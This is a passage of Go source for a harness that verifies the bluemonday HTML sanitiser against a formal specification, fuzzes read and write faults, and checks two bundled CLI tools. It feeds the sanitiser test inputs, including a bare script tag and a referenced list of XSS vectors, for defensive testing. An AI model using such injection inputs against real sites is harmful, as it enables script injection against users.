			} else if !ReadsBackAs(input, toks) {
				res.Dropped++
				continue
			}
			key := fmt.Sprintf("%d|%d", c.Rid, c.Did)
			// the environment of the case, on the real code
			rs := ReaderScript{FailAt: -1}
			if c.Env.Rfail >= 0 {
				rs.FailAt = len(Serialise(toks[:c.Env.Rfail], nil))
			}
			r := RunIO(p.real, c.Env.Entry, input, rs, WriterScript{Kind: c.Env.Wkind, FailAt: c.Env.FailAt, Mode: c.Env.FailMode})
			res.Execs++
			nt[key+c.Env.Entry+fmt.Sprint(c.Env.FailAt, c.Env.Rfail)] = true
			// conformance with the specification's prediction
			switch {
			case r.Panic != "":
				res.diverge("panic %s in case %s", r.Panic, js)
			case c.Status == "blank":
				if !bytes.Equal(r.Out, input) {
					res.diverge("blank input %q: real %q, spec returns the input unchanged", input, r.Out)
				}
			default:
				nw := 0
				okAll := true
				for _, te := range r.Rec.Toks {
					for _, w := range te.Writes {
						if nw >= len(c.Writes) || !writeTokMatches(w.Tok, DecTok(c.Writes[nw].Tok)) || w.Err == c.Writes[nw].Ok {
							okAll = false
						}
						nw++
					}
				}
				if !okAll || nw != len(c.Writes) {
					res.diverge("writes of %s on %q (env %+v): real performed %d, spec %d or they differ", c.Env.Entry, input, c.Env, nw, len(c.Writes))
				}
				if c.Env.Entry == "SanitizeReaderToWriter" && (r.Err != nil) != c.RetErr {
					res.diverge("%s on %q (env %+v): real error %v, spec reterr=%v", c.Env.Entry, input, c.Env, r.Err, c.RetErr)
				}
				if c.Env.Entry != "SanitizeReaderToWriter" && c.Returned == "empty" && len(r.Out) != 0 {
					res.diverge("%s on %q (env %+v): real returned %q, spec an empty buffer", c.Env.Entry, input, c.Env, r.Out)
				}
				if len(r.Rec.Toks) != c.Pos {
					res.diverge("%s on %q (env %+v): real consumed %d tokens, spec %d", c.Env.Entry, input, c.Env, len(r.Rec.Toks), c.Pos)
				}
			}
			if len(res.Samples) < 3 && c.Env.FailAt > 0 {
				res.Samples = append(res.Samples, map[string]interface{}{"input": string(input), "env": c.Env, "predicted_status": c.Status, "real_error": fmt.Sprint(r.Err), "accepted": string(r.Out)})
			}
			// byte-level inputs no token sequence can express (raw carriage returns, NUL, invalid UTF-8), once per policy
			if rk := fmt.Sprintf("raw|%d", c.Rid); !agreed[rk] && want["C15"] {
				agreed[rk] = true
				for _, raw := range rawInputs {
					res.Applicable["C15"]++
					checkAgreement(res, recipe, p.model, p.real, []byte(raw), rng, true, seen)
				}
			}
			// the oracles, once per (policy, document)
			if !agreed[key] {
				agreed[key] = true
				if want["C15"] {
					res.Applicable["C15"]++
					checkAgreement(res, recipe, p.model, p.real, input, rng, true, seen)
				}
				if want["C16"] && len(input) > 0 {
					res.Applicable["C16"]++
					checkWriteFaults(res, recipe, p.model, p.real, input, seen)
					offs := []int{}
					for o := 0; o <= len(input); o++ {
						if len(input) <= 96 || o < 48 || o > len(input)-8 || o%97 == 0 {
							offs = append(offs, o)
						}
					}
					checkReadFaults(res, recipe, p.model, p.real, input, offs, seen)
				}
			}
		}
		if err != nil {
			break
		}
	}
	res.Nontrivial = len(nt)
	if *outPath != "" {
		os.WriteFile(*outPath, JSON(res), 0o644)
	}
	fmt.Printf("replayio: cases=%d execs=%d divergences=%d violations=%d\n", res.Cases, res.Execs, res.Divergences, len(res.Violations))
	return 0
}

// ---------------------------------------------------------------------------
// the bundled command-line tools

// The documented configuration of cmd/sanitise_ugc and cmd/sanitise_html_email, frozen here.
func cliRecipes() map[string]Recipe {
	t := func(m string, b bool) Call { c := Call{M: m, B: b}; c.norm(); return c }
	link := []Call{t("RequireNoFollowOnLinks", true), t("RequireNoFollowOnFullyQualifiedLinks", true), t("AddTargetBlankToFullyQualifiedLinks", true)}
	ugc := append(Recipe{{M: "UGCPolicy"}}, link...)
	color := `re:(?i)^(#[0-9a-fA-F]{1,6}|black|silver|gray|white|maroon|red|purple|fuchsia|green|lime|olive|yellow|navy|blue|teal|aqua|orange|aliceblue|antiquewhite|aquamarine|azure|beige|bisque|blanchedalmond|blueviolet|brown|burlywood|cadetblue|chartreuse|chocolate|coral|cornflowerblue|cornsilk|crimson|darkblue|darkcyan|darkgoldenrod|darkgray|darkgreen|darkgrey|darkkhaki|darkmagenta|darkolivegreen|darkorange|darkorchid|darkred|darksalmon|darkseagreen|darkslateblue|darkslategray|darkslategrey|darkturquoise|darkviolet|deeppink|deepskyblue|dimgray|dimgrey|dodgerblue|firebrick|floralwhite|forestgreen|gainsboro|ghostwhite|gold|goldenrod|greenyellow|grey|honeydew|hotpink|indianred|indigo|ivory|khaki|lavender|lavenderblush|lawngreen|lemonchiffon|lightblue|lightcoral|lightcyan|lightgoldenrodyellow|lightgray|lightgreen|lightgrey|lightpink|lightsalmon|lightseagreen|lightskyblue|lightslategray|lightslategrey|lightsteelblue|lightyellow|limegreen|linen|mediumaquamarine|mediumblue|mediumorchid|mediumpurple|mediumseagreen|mediumslateblue|mediumspringgreen|mediumturquoise|mediumvioletred|midnightblue|mintcream|mistyrose|moccasin|navajowhite|oldlace|olivedrab|orangered|orchid|palegoldenrod|palegreen|paleturquoise|palevioletred|papayawhip|peachpuff|peru|pink|plum|powderblue|rosybrown|royalblue|saddlebrown|salmon|sandybrown|seagreen|seashell|sienna|skyblue|slateblue|slategray|slategrey|snow|springgreen|steelblue|tan|thistle|tomato|turquoise|violet|wheat|whitesmoke|yellowgreen|rebeccapurple)$`
	email := Recipe{{M: "UGCPolicy"},
		{M: "AllowElements", Names: []string{"html", "head", "body", "title"}},
		aa([]string{"type"}, `re:(?i)^text\/css$`, "style"),
		aa([]string{"style"}, ""),
		{M: "AllowElements", Names: []string{"font", "main", "nav", "header", "footer", "kbd", "legend"}},
		aa([]string{"type"}, `re:(?i)^[a-zA-Z][a-zA-Z-]{1,30}[a-zA-Z]$`, "button"),
		aa([]string{"bgcolor", "color"}, color, "basefont", "font", "hr"),
		aa([]string{"border"}, Vocab.Re["Integer"], "img", "table"),
		aa([]string{"cellpadding", "cellspacing"}, Vocab.Re["Integer"], "table"),
		{M: "AllowStyling"}, {M: "AllowDataURIImages"}}
	email = append(email, link...)
	for i := range email {
		email[i].norm()
	}
	for i := range ugc {
		ugc[i].norm()
	}
	return map[string]Recipe{"sanitise_ugc": ugc, "sanitise_html_email": email}
}

// cmdCLICheck builds the two tools from the repository and compares their output with the library
// result of the documented policy.
func cmdCLICheck(args []string) int {
	fs := flag.NewFlagSet("clicheck", flag.ExitOnError)
	repo := fs.String("repo", "/repo", "")
	n := fs.Int("n", 60, "random inputs per tool")
	seed := fs.Int64("seed", 1, "")
	outPath := fs.String("out", "", "")
	job := fs.String("job", "clicheck", "")
	fs.Parse(args)
	res := &RunResult{Job: *job, Applicable: map[string]int{}}
	dir, err := os.MkdirTemp("", "vhcli")
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 2
	}
	defer os.RemoveAll(dir)
	rng := rand.New(rand.NewSource(*seed))
	seen := map[string]bool{}
	for tool, recipe := range cliRecipes() {
		bin := filepath.Join(dir, tool)
		c := exec.Command("go", "build", "-o", bin, "./cmd/"+tool)
		c.Dir = *repo
		if out, err := c.CombinedOutput(); err != nil {
			fmt.Fprintf(os.Stderr, "clicheck: building %s failed: %v\n%s", tool, err, out)
			return 2
		}
		real, model := BuildReal(recipe), BuildAP(recipe)
		inputs := [][]byte{[]byte(""), []byte("  \n "), []byte("plain"), []byte(`<a href="http://e.com/">x</a><a href="/r">y</a><script>1</script>`),
			[]byte(`<html><head><title>t</title><style type="text/css">p{}</style></head><body><font color="red" style="x">f</font></body></html>`)}
		for _, v := range xssVectors {
			inputs = append(inputs, []byte(v))
		}
		// the tool's own value patterns: valid values and near misses (a valid value with something in front, behind, doubled)
		for _, c := range recipe {
			if c.M != "AllowAttrs" || !strings.HasPrefix(c.Match, "re:") {
				continue
			}
			var sb strings.Builder
			for _, el := range c.Els {
				for _, k := range c.Attrs {
					for _, v := range []string{"red", "#fff", "rebeccapurple", "black", "submit", "12", "text/css", "0"} {
						for _, w := range []string{v, v + "ish", "x" + v, v + v, v + " ", " " + v, strings.ToUpper(v), v + "\n", v + "5678"} {
							fmt.Fprintf(&sb, "<%s %s=\"%s\">t</%s>\n", el, k, w, el)
						}
					}
				}
			}
			inputs = append(inputs, []byte(sb.String()))
		}
		for k := 0; k < *n; k++ {
			_, b := GenDoc(rng, model, []int{0, 1, 3, 4, 5, 6, 7, 8}[rng.Intn(8)])
			inputs = append(inputs, b)
		}
		// a large document (more than a mebibyte on stdin)
		inputs = append(inputs, []byte(strings.Repeat("<p>paragraph <b>bold</b> &amp; text</p>\n", 32000)+"<i>the end</i>"))
		for _, in := range inputs {
			cmd := exec.Command(bin)
			cmd.Stdin = bytes.NewReader(in)
			var stdout, stderr bytes.Buffer
			cmd.Stdout, cmd.Stderr = &stdout, &stderr
			err := cmd.Run()
			res.Execs++
			res.Cases++
			res.Applicable["C15"]++
			want := real.Sanitize(string(in))
			x := NewExec(recipe, model, real, in, stdout.Bytes(), nil)
			if err != nil {
				res.addViolation(Finding{"C15", "cli-failed:" + tool, fmt.Sprintf("%s exited with %v (%s) on %q", tool, err, stderr.String(), in)}, x, seen)
				continue
			}
			if stdout.String() != want {
				res.addViolation(Finding{"C15", "cli-differs:" + tool, fmt.Sprintf("%s wrote %q for stdin %q; the library result of its documented policy is %q", tool, stdout.String(), in, want)}, x, seen)
			}
			if len(res.Samples) < 2 && len(in) > 20 {
				res.Samples = append(res.Samples, map[string]interface{}{"tool": tool, "stdin": string(in), "stdout": stdout.String()})
			}
		}
	}
	res.Nontrivial = res.Execs
	if *outPath != "" {
		os.WriteFile(*outPath, JSON(res), 0o644)
	}
	fmt.Printf("clicheck: execs=%d violations=%d\n", res.Execs, len(res.Violations))
	return 0
}

func init() {
	Commands["replayio"] = cmdReplayIO
	Commands["clicheck"] = cmdCLICheck
}

// cmdIOFuzz: random policies x documents x environments; the C15/C16 oracles on each, and a trace of
// the faulty runs for Trace_Session.
func cmdIOFuzz(args []string) int {
	fs := flag.NewFlagSet("iofuzz", flag.ExitOnError)
	props := fs.String("props", "C15,C16", "")
	seed := fs.Int64("seed", 1, "")
	sessions := fs.Int("sessions", 20, "")
	calls := fs.Int("calls", 10, "")
	tracePath := fs.String("trace", "", "")
	factsPath := fs.String("facts", "", "")
	outPath := fs.String("out", "", "")
	job := fs.String("job", "iofuzz", "")
	fs.Parse(args)
	want := map[string]bool{}
	for _, p := range splitProps(*props) {
		want[p] = true
	}
	rng := rand.New(rand.NewSource(*seed))
	res := &RunResult{Job: *job, Applicable: map[string]int{}}
	seen := map[string]bool{}
	var tw *TraceWriter
	if *tracePath != "" {
		tf, err := os.Create(*tracePath)
		if err != nil {
			fmt.Fprintln(os.Stderr, err)
			return 2
		}
		defer tf.Close()
		tw = NewTraceWriter(tf)
	}
	for s := 0; s < *sessions; s++ {
		recipe := GenRecipe(rng, GenOpts{NoUnsafe: rng.Intn(4) != 0})
		var sess *SessionResult
		if tw != nil {
			sess = tw.BuildSession(recipe)
		} else {
			sess = &SessionResult{Recipe: recipe, Model: BuildAP(recipe), Real: BuildReal(recipe)}
		}
		for c := 0; c < *calls; c++ {
			_, input := GenDoc(rng, sess.Model, []int{0, 1, 3, 4, 5, 6, 8, 9, 9}[rng.Intn(9)])
			res.Cases++
			if want["C15"] {
				res.Applicable["C15"]++
				checkAgreement(res, recipe, sess.Model, sess.Real, input, rng, len(input) <= 40, seen)
			}
			if want["C16"] && len(input) > 0 {
				res.Applicable["C16"]++
				checkWriteFaults(res, recipe, sess.Model, sess.Real, input, seen)
				offs := []int{0, len(input)}
				for k := 0; k < 6; k++ {
					offs = append(offs, rng.Intn(len(input)+1))
				}
				checkReadFaults(res, recipe, sess.Model, sess.Real, input, offs, seen)
			}
			// one faulty run of this input goes into the trace
			if tw != nil {
				rs := ReaderScript{FailAt: -1, OneByte: rng.Intn(2) == 0}
				ws := WriterScript{Kind: []string{"string", "plain"}[rng.Intn(2)], Mode: []string{"transient", "permanent"}[rng.Intn(2)]}
				switch rng.Intn(3) {
				case 0:
					ws.FailAt = 1 + rng.Intn(6)
				case 1:
					rs.FailAt = rng.Intn(len(input) + 1)
				}
				r := RunIO(sess.Real, "SanitizeReaderToWriter", input, rs, ws)
				res.Execs++
				tw.nextID++
				for _, p := range []*AP{sess.Model} {
					tw.Facts.AddPolicy(p)
					for _, t := range r.Rec.Toks {
						tw.Facts.AddTag(p, t.Tok.N, t.Tok.A)
						tw.Facts.AddAfter(p, t.Tok.N, t.After)
					}
				}
				for _, e := range r.Rec.TraceEventsIO(tw.nextID, "SanitizeReaderToWriter", r.Err != nil, rs.FailAt >= 0) {
					tw.emit(e, LineInfo{len(tw.Sessions) - 1, tw.nextID, -1})
				}
			}
		}
	}
	res.Nontrivial = res.Cases
	if tw != nil {
		tw.Flush()
		os.WriteFile(*factsPath, JSON(tw.Facts), 0o644)
	}
	if *outPath != "" {
		os.WriteFile(*outPath, JSON(res), 0o644)
	}
	fmt.Printf("iofuzz: inputs=%d execs=%d violations=%d\n", res.Cases, res.Execs, len(res.Violations))
	return 0
}

func init() { Commands["iofuzz"] = cmdIOFuzz }
