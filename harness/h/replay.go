package h

import (
	"bufio"
	"crypto/sha1"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"math/rand"
	"os"
	"path/filepath"
	"sort"
	"strings"

	bm "github.com/microcosm-cc/bluemonday"
)

// Family is a bounded-model family file (spec/fam_*.json).
type Family struct {
	Name      string            `json:"name"`
	Recipes   []Recipe          `json:"recipes"`
	Tokens    []Tok             `json:"tokens"`
	Attrs     map[string][]Attr `json:"attrs"`     // attribute alphabet per element (MC_Attrs families)
	Calls     []Call            `json:"calls"`     // builder call alphabet (MC_Policy family)
	CtorPairs [][]Call          `json:"ctorpairs"` // constructor pairs (MC_Policy family)
	Docs      []ioDoc           `json:"docs"`      // documents (MC_IO family)
	PairSweep bool              `json:"pairsweep"` // ordered-pair sweep on fresh policies (families with element patterns)
}

func LoadFamily(path string) (*Family, error) {
	var f Family
	if err := LoadJSONFile(path, &f); err != nil {
		return nil, err
	}
	// names in builder calls are written in the token encoding (identity for plain ASCII)
	dec := func(cs []Call) {
		for i := range cs {
			for _, l := range []*[]string{&cs[i].Names, &cs[i].Attrs, &cs[i].Els, &cs[i].Props, &cs[i].Schemes, &cs[i].Vals} {
				for j := range *l {
					(*l)[j] = Dec((*l)[j])
				}
			}
		}
	}
	for _, r := range f.Recipes {
		dec(r)
	}
	dec(f.Calls)
	for _, cp := range f.CtorPairs {
		dec(cp)
	}
	return &f, nil
}

// ReplayFile is a self-contained reproduction of one real execution.
type ReplayFile struct {
	Property string `json:"property"`
	Key      string `json:"key"`
	Detail   string `json:"detail"`
	Recipe   Recipe `json:"recipe"`
	InputB64 string `json:"input_b64"`
	Input    string `json:"input_printable"`
	Output   string `json:"output_printable"`
	Source   string `json:"source"` // which job produced it
	// when the policy was extended after it had been used: the recipe up to ExtendAt was built first, the inputs of
	// PriorB64 were sanitised, then the rest of the recipe was applied
	ExtendAt int      `json:"extend_at,omitempty"`
	PriorB64 []string `json:"prior_inputs_b64,omitempty"`
}

// RunResult aggregates a job.
type RunResult struct {
	Job         string         `json:"job"`
	Cases       int            `json:"cases"`
	Execs       int            `json:"execs"`
	Dropped     int            `json:"dropped_variants"`
	Nontrivial  int            `json:"distinct_nontrivial"`
	Divergences int            `json:"divergences"`
	DivSamples  []string       `json:"divergence_samples"`
	Violations  []ViolationRec `json:"violations"`
	Samples     []interface{}  `json:"samples"`
	Branches    map[string]int `json:"branches,omitempty"`
	Applicable  map[string]int `json:"applicable"` // per property: executions on which its antecedent held
	Extra       interface{}    `json:"extra,omitempty"`
}

// judge runs the oracles of props on x, counting applicability.
func (r *RunResult) judge(props []string, x *Exec, seen map[string]bool) {
	if r.Applicable == nil {
		r.Applicable = map[string]int{}
	}
	for _, p := range props {
		if o := Oracles[p]; o != nil {
			if applies(p, x) {
				r.Applicable[p]++
			}
			r.violate(o(x), x, r.Job, seen)
		}
	}
}

type ViolationRec struct {
	Finding
	Replay string `json:"replay"`
}

func (r *RunResult) diverge(format string, a ...interface{}) {
	r.Divergences++
	if len(r.DivSamples) < 8 {
		s := fmt.Sprintf(format, a...)
		if len(s) > 600 {
			s = s[:600] + "..."
		}
		r.DivSamples = append(r.DivSamples, s)
	}
}

// ReplayDir is where replay files are written.
func ReplayDir() string {
	if d := os.Getenv("VERIF_REPLAY_DIR"); d != "" {
		return d
	}
	return "/verif/evidence/replay"
}

func printable(b []byte) string {
	s := fmt.Sprintf("%q", string(b))
	if len(s) > 400 {
		s = s[:400] + "..."
	}
	return s
}

// WriteReplay stores a reproduction and returns its path.
func WriteReplay(f Finding, x *Exec, source string) string {
	rf := ReplayFile{Property: f.Prop, Key: f.Key, Detail: f.Detail, Recipe: x.Recipe,
		InputB64: base64.StdEncoding.EncodeToString(x.Input), Input: printable(x.Input), Output: printable(x.Output), Source: source}
	if x.ExtendAt > 0 {
		rf.ExtendAt = x.ExtendAt
		for _, in := range x.Prior {
			rf.PriorB64 = append(rf.PriorB64, base64.StdEncoding.EncodeToString(in))
		}
	}
	h := sha1.Sum(append(JSON(x.Recipe), x.Input...))
	os.MkdirAll(ReplayDir(), 0o755)
	path := filepath.Join(ReplayDir(), f.Prop+"-"+hex.EncodeToString(h[:6])+".json")
	os.WriteFile(path, JSON(rf), 0o644)
	return path
}

func (r *RunResult) violate(fs []Finding, x *Exec, source string, seen map[string]bool) {
	for _, f := range fs {
		k := f.Prop + "|" + f.Key
		if seen[k] && len(r.Violations) >= 5 {
			continue
		}
		if len(r.Violations) >= 40 {
			return
		}
		seen[k] = true
		r.Violations = append(r.Violations, ViolationRec{f, WriteReplay(f, x, source)})
	}
}

// parseCaseLine extracts the JSON of a TLC PrintT(<<"CASE", json>>) line.
func parseCaseLine(line string) (string, bool) {
	const pre = `<<"CASE", "`
	if !strings.HasPrefix(line, pre) || !strings.HasSuffix(line, `">>`) {
		return "", false
	}
	s := line[len(pre) : len(line)-3]
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		if s[i] == '\\' && i+1 < len(s) {
			i++
			switch s[i] {
			case 'n':
				b.WriteByte('\n')
			case 't':
				b.WriteByte('\t')
			default:
				b.WriteByte(s[i])
			}
			continue
		}
		b.WriteByte(s[i])
	}
	return b.String(), true
}

type histEntry struct {
	St LoopState `json:"st"`
	N  int       `json:"n"`
	B  string    `json:"b"` // the specification's branch name for this step
}

type loopCase struct {
	Rid  int         `json:"rid"`
	Inp  []Tok       `json:"inp"`
	Out  []Tok       `json:"out"`
	Hist []histEntry `json:"hist"`
}

func splitProps(s string) []string {
	out := []string{}
	for _, p := range strings.Split(s, ",") {
		if p = strings.TrimSpace(p); p != "" {
			out = append(out, p)
		}
	}
	return out
}

func stEq(a, b LoopState) bool {
	if a.Skip != b.Skip || a.Cnt != b.Cnt || a.Mrst != b.Mrst || len(a.Stack) != len(b.Stack) {
		return false
	}
	for i := range a.Stack {
		if a.Stack[i] != b.Stack[i] {
			return false
		}
	}
	return true
}

// writeTokMatches: does the classified write correspond to the predicted output token?
func writeTokMatches(w Tok, t Tok) bool {
	if w.T == "chars" {
		return (t.T == "text" || t.T == "raw") && w.D == t.D
	}
	if t.A == nil {
		t.A = []Attr{}
	}
	return TokEq(w, t)
}

type polCacheEntry struct {
	real  *bm.Policy
	model *AP
	uses  int
}

func hasProp(props []string, p string) bool {
	for _, x := range props {
		if x == p {
			return true
		}
	}
	return false
}

// cmdReplay: read CASE lines of the loop machine on stdin, replay each into the real code.
//
//	vh replay -fam fam.json -props C01,C05 -variants 3 -seed 1 -out result.json
func cmdReplay(args []string) int {
	fs := flag.NewFlagSet("replay", flag.ExitOnError)
	famPath := fs.String("fam", "", "family file")
	props := fs.String("props", "", "properties whose oracles decide")
	variants := fs.Int("variants", 2, "syntactic variants per case (first is canonical)")
	seed := fs.Int64("seed", 1, "seed")
	outPath := fs.String("out", "", "result file")
	job := fs.String("job", "replay", "job name")
	fs.Parse(args)
	fam, err := LoadFamily(*famPath)
	if err != nil {
		fmt.Fprintln(os.Stderr, "replay:", err)
		return 2
	}
	res := &RunResult{Job: *job, Branches: map[string]int{}}
	rng := rand.New(rand.NewSource(*seed))
	cache := map[int]*polCacheEntry{}
	seenV := map[string]bool{}
	seenNT := map[string]bool{}
	in := bufio.NewReaderSize(os.Stdin, 1<<20)
	for {
		line, err := in.ReadString('\n')
		if len(line) > 0 {
			line = strings.TrimRight(line, "\r\n")
			if js, ok := parseCaseLine(line); ok {
				var c loopCase
				if e := json.Unmarshal([]byte(js), &c); e != nil {
					fmt.Fprintln(os.Stderr, "replay: bad case:", e)
					return 2
				}
				replayLoopCase(fam, &c, res, rng, *variants, splitProps(*props), cache, seenV, seenNT)
			}
		}
		if err == io.EOF {
			break
		}
		if err != nil {
			fmt.Fprintln(os.Stderr, "replay:", err)
			return 2
		}
	}
	res.Nontrivial = len(seenNT)
	if *outPath != "" {
		os.WriteFile(*outPath, JSON(res), 0o644)
	}
	fmt.Printf("replay: cases=%d execs=%d dropped=%d divergences=%d violations=%d\n", res.Cases, res.Execs, res.Dropped, res.Divergences, len(res.Violations))
	return 0
}

func replayLoopCase(fam *Family, c *loopCase, res *RunResult, rng *rand.Rand, variants int, props []string,
	cache map[int]*polCacheEntry, seenV, seenNT map[string]bool) {
	res.Cases++
	memGuard(cache, res.Cases)
	pe := cache[c.Rid]
	if pe == nil {
		r := fam.Recipes[c.Rid-1]
		pe = &polCacheEntry{real: BuildReal(r), model: BuildAP(r)}
		cache[c.Rid] = pe
		if d := APDiff(pe.model, SnapshotAP(pe.real)); len(d) > 0 {
			res.diverge("recipe %d: real policy differs from the model: %s", c.Rid, d[0])
		}
	}
	recipe := fam.Recipes[c.Rid-1]
	inp := make([]Tok, len(c.Inp))
	for i, t := range c.Inp {
		inp[i] = DecTok(t)
	}
	pred := make([]Tok, len(c.Out))
	for i, t := range c.Out {
		pred[i] = DecTok(t)
	}
	if n := len(c.Hist); n > 0 && c.Hist[n-1].B != "" {
		res.Branches[c.Hist[n-1].B]++ // the last step of each emitted history (every history is some case's last step)
	}
	for v := 0; v < variants; v++ {
		var r *rand.Rand
		if v > 0 {
			r = rng
		}
		b := Serialise(inp, r)
		if !ReadsBackAs(b, inp) {
			res.Dropped++
			continue
		}
		rec, out := RunRecorded(pe.real, b)
		res.Execs++
		x := NewExec(recipe, pe.model, pe.real, b, out, rec)
		if string(out) != string(b) {
			seenNT[fmt.Sprintf("%d|%s", c.Rid, ToksString(inp))] = true
		}
		if len(res.Samples) < 3 && len(inp) >= 2 {
			res.Samples = append(res.Samples, map[string]interface{}{"recipe_index": c.Rid, "input": string(b), "predicted": ToksString(pred), "observed_output": string(out)})
		}
		// conformance: the real code must do what the specification predicted, step by step
		ok := true
		if rec.Panic != "" {
			res.diverge("panic: %s on %q", rec.Panic, b)
			ok = false
		} else if len(rec.Toks) != len(inp) {
			res.diverge("token count: real %d spec %d on %q", len(rec.Toks), len(inp), b)
			ok = false
		} else {
			nw := 0
			for i, te := range rec.Toks {
				post := rec.Final
				if i+1 < len(rec.Toks) {
					post = rec.Toks[i+1].Pre
				}
				want := c.Hist[i].St
				want.Mrst = Dec(want.Mrst)
				for k := range want.Stack {
					want.Stack[k] = Dec(want.Stack[k])
				}
				if !stEq(post, want) {
					res.diverge("loop state after token %d (%s) of %q: real %+v spec %+v", i+1, inp[i], b, post, want)
					ok = false
					break
				}
				for _, w := range te.Writes {
					if nw >= len(pred) || !writeTokMatches(w.Tok, pred[nw]) {
						res.diverge("write %d at token %d (%s) of %q: real %s, spec %v", nw+1, i+1, inp[i], b, w.Tok, ToksString(pred[min(nw, len(pred)):]))
						ok = false
						break
					}
					nw++
				}
				if !ok {
					break
				}
				if nw != c.Hist[i].N {
					res.diverge("writes after token %d (%s) of %q: real %d spec %d", i+1, inp[i], b, nw, c.Hist[i].N)
					ok = false
					break
				}
			}
		}
		if ok && rec.WritesConcat() != string(out) {
			res.diverge("output is not the concatenation of the writes on %q", b)
		}
		res.judge(props, x, seenV)
	}
}

func min(a, b int) int {
	if a < b {
		return a
	}
	return b
}

// cmdFamFacts: vh famfacts <fam.json> <facts.json>
func cmdFamFacts(args []string) int {
	fam, err := LoadFamily(args[0])
	if err != nil {
		fmt.Fprintln(os.Stderr, "famfacts:", err)
		return 2
	}
	f := NewFacts()
	f.AddRecipe(Recipe(fam.Calls))
	for _, r := range fam.Recipes {
		f.AddRecipe(r)
		ap := BuildAP(r)
		f.AddPolicy(ap)
		for _, t := range fam.Tokens {
			d := DecTok(t)
			if isTag(d) {
				f.AddTag(ap, d.N, d.A)
			}
		}
		for el, as := range fam.Attrs {
			f.AddTag(ap, Dec(el), decAttrs(as))
		}
		for _, d := range fam.Docs {
			for _, t := range d.Toks {
				if dt := DecTok(t); isTag(dt) {
					f.AddTag(ap, dt.N, dt.A)
					f.AddAfter(ap, dt.N, nil)
				}
			}
		}
	}
	if err := os.WriteFile(args[1], JSON(f), 0o644); err != nil {
		fmt.Fprintln(os.Stderr, "famfacts:", err)
		return 2
	}
	return 0
}

// cmdRepro: vh repro <replay.json> — rebuild the policy, rerun the input, evaluate the oracle.
func cmdRepro(args []string) int {
	if strings.Contains(args[0], "/C17-") {
		return reproC17(args[0])
	}
	if strings.Contains(args[0], "/C13-") {
		return reproC13(args[0])
	}
	if strings.Contains(args[0], "/C19-") {
		return reproC19(args[0])
	}
	if strings.Contains(args[0], "/C18-") {
		return reproC18(args[0])
	}
	if strings.Contains(args[0], "/C14-") && !strings.Contains(args[0], "input_b64") {
		var probe struct {
			Kind string `json:"kind"`
		}
		if LoadJSONFile(args[0], &probe) == nil && probe.Kind != "" {
			return reproC14(args[0])
		}
	}
	var rf ReplayFile
	if err := LoadJSONFile(args[0], &rf); err != nil {
		fmt.Fprintln(os.Stderr, "repro:", err)
		return 2
	}
	in, _ := base64.StdEncoding.DecodeString(rf.InputB64)
	real, model := BuildReal(rf.Recipe), BuildAP(rf.Recipe)
	if rf.ExtendAt > 0 && rf.ExtendAt < len(rf.Recipe) {
		b := &Builder{}
		for _, c := range rf.Recipe[:rf.ExtendAt] {
			b.Apply(c)
		}
		for _, p64 := range rf.PriorB64 {
			pin, _ := base64.StdEncoding.DecodeString(p64)
			b.P.SanitizeBytes(pin)
		}
		for _, c := range rf.Recipe[rf.ExtendAt:] {
			b.Apply(c)
		}
		real = b.P
		fmt.Printf("(policy used on %d inputs after its first %d builder calls, then extended)\n", len(rf.PriorB64), rf.ExtendAt)
	}
	rec, out := RunRecorded(real, in)
	x := NewExec(rf.Recipe, model, real, in, out, rec)
	fmt.Printf("input:  %q\noutput: %q\n", in, out)
	o := Oracles[rf.Property]
	if o == nil {
		fmt.Println("no oracle for", rf.Property)
		return 2
	}
	fs := o(x)
	for _, f := range fs {
		fmt.Printf("VIOLATION property=%s replay=%s\n  %s\n", f.Prop, args[0], f.Detail)
	}
	if len(fs) > 0 {
		return 1
	}
	fmt.Println("property holds on this execution")
	return 0
}

func init() {
	Commands["replay"] = cmdReplay
	Commands["famfacts"] = cmdFamFacts
	Commands["repro"] = cmdRepro
}

var sweptRecipes = map[int]bool{}

type attrsCase struct {
	Rid   int    `json:"rid"`
	El    string `json:"el"`
	As    []Attr `json:"as"`
	Res   []Attr `json:"res"`
	Known bool   `json:"known"`
	Bare  bool   `json:"bare"`
}

func attrsEq(a, b []Attr) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}

func decAttrs(as []Attr) []Attr {
	out := make([]Attr, len(as))
	for i, a := range as {
		out[i] = Attr{Dec(a.K), Dec(a.V)}
	}
	return out
}

// cmdReplayAttrs: CASE lines of MC_Attrs -> the real code, one tag per case.
func cmdReplayAttrs(args []string) int {
	fs := flag.NewFlagSet("replayattrs", flag.ExitOnError)
	famPath := fs.String("fam", "", "family file")
	props := fs.String("props", "", "")
	variants := fs.Int("variants", 2, "")
	seed := fs.Int64("seed", 1, "")
	outPath := fs.String("out", "", "")
	job := fs.String("job", "replayattrs", "")
	fs.Parse(args)
	fam, err := LoadFamily(*famPath)
	if err != nil {
		fmt.Fprintln(os.Stderr, "replayattrs:", err)
		return 2
	}
	res := &RunResult{Job: *job}
	rng := rand.New(rand.NewSource(*seed))
	cache := map[int]*polCacheEntry{}
	seenV, seenNT := map[string]bool{}, map[string]bool{}
	pl := splitProps(*props)
	in := bufio.NewReaderSize(os.Stdin, 1<<20)
	for {
		line, err := in.ReadString('\n')
		if js, ok := parseCaseLine(strings.TrimRight(line, "\r\n")); ok {
			var c attrsCase
			if e := json.Unmarshal([]byte(js), &c); e != nil {
				fmt.Fprintln(os.Stderr, "replayattrs: bad case:", e, js)
				return 2
			}
			replayAttrsCase(fam, &c, res, rng, *variants, pl, cache, seenV, seenNT)
		}
		if err != nil {
			break
		}
	}
	res.Nontrivial = len(seenNT)
	if *outPath != "" {
		os.WriteFile(*outPath, JSON(res), 0o644)
	}
	fmt.Printf("replayattrs: cases=%d execs=%d dropped=%d divergences=%d violations=%d\n", res.Cases, res.Execs, res.Dropped, res.Divergences, len(res.Violations))
	return 0
}

// memGuard: a change to the library may make a policy grow with every call (for instance by appending
// into its own rule tables); rather than let the harness be killed, the cached real policies are
// rebuilt every 16 cases, which bounds any such growth (their misbehaviour inside a window is still
// observed by the oracles).
func memGuard(cache map[int]*polCacheEntry, n int) {
	if n%16 == 0 {
		for k := range cache {
			delete(cache, k)
		}
	}
}

// pairSweep: order-dependent state inside a policy (a rule table polluted by an earlier call, a cache) only
// shows after a particular earlier tag. Once per recipe, every ordered pair (earlier element, later
